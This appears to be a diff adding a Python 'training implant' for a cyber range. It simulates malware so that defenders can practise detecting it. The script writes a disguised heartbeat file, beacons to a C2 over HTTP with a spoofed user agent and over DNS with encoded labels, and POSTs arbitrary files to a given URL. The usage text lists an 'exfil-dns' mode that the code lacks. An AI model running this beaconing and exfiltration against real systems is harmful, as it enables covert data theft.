@@ -1,0 +1,69 @@
+#!/usr/bin/python3
+"""cyder's training implant: a harmless stand-in for malware, run inside range PCs only.
+
+It imitates what defenders must find: a dropped file, a persistence entry, a resident process,
+periodic check-ins with a C2 server over HTTP (through the proxy) or DNS, collection of files and
+their exfiltration. It never spreads, never hides, and touches nothing outside its user's files.
+
+Usage: implant.py resident | beacon-http URL | beacon-dns DOMAIN | exfil-http URL FILE... |
+       exfil-dns DOMAIN FILE... (the engine runs each beacon or exfiltration as a step)
+"""
+
+import base64
+import os
+import socket
+import sys
+import time
+import urllib.request
+
+IMPLANT_ID = socket.gethostname()
+
+
+def resident():
+    """Stay running, as an implant does, writing a heartbeat file."""
+    state = os.path.expanduser("~/.cache/.updater-state")
+    while True:
+        with open(state, "w", encoding="utf-8") as fh:
+            fh.write(f"{time.time():.0f}\n")
+        time.sleep(30)
+
+
+def beacon_http(url):
+    """One check-in: GET the C2 URL through the proxy from the environment."""
+    request = urllib.request.Request(f"{url}?id={IMPLANT_ID}", headers={"User-Agent": "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)"})
+    with urllib.request.urlopen(request, timeout=5) as response:
+        response.read()
+
+
+def beacon_dns(domain):
+    """One check-in: resolve a name under the C2 domain through the organisation's resolver."""
+    label = base64.b32encode(f"{IMPLANT_ID}:{int(time.time())}".encode()).decode().rstrip("=").lower()
+    try:
+        socket.gethostbyname(f"{label}.{domain}")
+    except socket.gaierror:
+        pass  # the answer does not matter: the query is the message
+
+
+def exfil_http(url, paths):
+    """POST each file to the C2 through the proxy."""
+    for path in paths:
+        with open(path, "rb") as fh:
+            data = fh.read()
+        request = urllib.request.Request(f"{url}?id={IMPLANT_ID}&name={os.path.basename(path)}", data=data,
+                                         method="POST", headers={"Content-Type": "application/octet-stream"})
+        with urllib.request.urlopen(request, timeout=10) as response:
+            response.read()
+
+
+if __name__ == "__main__":
+    command, args = sys.argv[1], sys.argv[2:]
+    if command == "resident":
+        resident()
+    elif command == "beacon-http":
+        beacon_http(args[0])
+    elif command == "beacon-dns":
+        beacon_dns(args[0])
+    elif command == "exfil-http":
+        exfil_http(args[0], args[1:])
+    else:
+        sys.exit(f"unknown command {command}")
